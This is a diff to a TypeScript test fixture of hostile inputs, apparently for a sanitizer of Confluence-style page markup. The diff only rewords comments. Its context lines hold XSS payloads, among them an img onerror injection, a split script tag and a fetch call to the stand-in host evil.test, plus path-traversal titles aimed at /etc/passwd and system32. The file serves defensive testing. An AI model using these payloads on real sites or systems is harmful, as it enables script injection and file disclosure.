@@ -1,4 +1,4 @@
-// Bodies that try to run, load, send, frame or break out. `SENTINEL()` is called by whatever runs; `evil.test` is whatever loads.
+// Bodies that try to run, load, send, frame or break out. Whatever runs calls `SENTINEL()`; whatever loads comes from `evil.test`.
 
 const evil = 'http://evil.test';
 const call = "top.SENTINEL&&top.SENTINEL();window.SENTINEL&&SENTINEL();fetch('http://evil.test/ran')";
@@ -11,7 +11,7 @@ const parameter = (name: string, value: string) => `<ac:parameter ac:name="${nam
 const jsLink = (href: string) => `<a href="${href}">click</a>`;
 const onError = `<img src="x" onerror="${call}" />`;
 
-/** What each tries, and the body. */
+/** What each tries to do, and the body. */
 export const hostileBodies: readonly (readonly [about: string, body: string])[] = [
   ['a script', script],
   ['a script in capitals, cut in two', `<SCR<script></script>IPT>${call}</SCRIPT>`],
@@ -300,7 +300,7 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
   ['everything unclosed', '<ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[<b'],
 ];
 
-/** Titles of pages, attachments and spaces that want to be something else than a name. */
+/** Titles of pages, attachments and spaces that try to be more than a name. */
 export const hostileTitles: readonly string[] = [
   '../../../../etc/passwd',
   '..\\..\\windows\\system32\\x',
